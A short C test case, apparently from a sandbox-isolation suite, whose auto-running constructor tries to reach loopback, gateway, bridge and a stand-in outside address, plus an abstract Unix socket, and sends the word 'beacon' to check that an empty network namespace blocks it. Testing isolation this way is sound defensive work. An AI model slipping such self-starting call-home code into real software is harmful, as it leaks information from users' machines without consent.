/* phones-home - tells somebody outside what it has seen
 *
 * Tries: TCP to every address of this machine and to one outside, UDP broadcast, an abstract Unix socket
 * Holds: a network namespace with nothing in it but a loopback of its own
 * Mark: 100
 * Check: beacon
 * Goal: grep -q beacon /scene/beacon
 * Honest: yes */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void attack_call(int family, const void *address, socklen_t length)
{
	int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return;
	if (connect(fd, address, length) == 0 || family == AF_INET) {
		usleep(1000);
		send(fd, "beacon\n", 7, MSG_NOSIGNAL);
	}
	close(fd);
}

static void __attribute__((constructor)) attack(void)
{
	static const char *const hosts[] = { "127.0.0.1", "10.0.2.2", "172.17.0.1", "192.0.2.1" };
	struct sockaddr_un name = { .sun_family = AF_UNIX, .sun_path = "\0lab-attack-beacon" };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(47613) };

	for (size_t i = 0; i < sizeof hosts / sizeof *hosts; i++) {
		inet_pton(AF_INET, hosts[i], &to.sin_addr);
		attack_call(AF_INET, &to, sizeof to);
	}
	attack_call(AF_UNIX, &name, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 18));
}
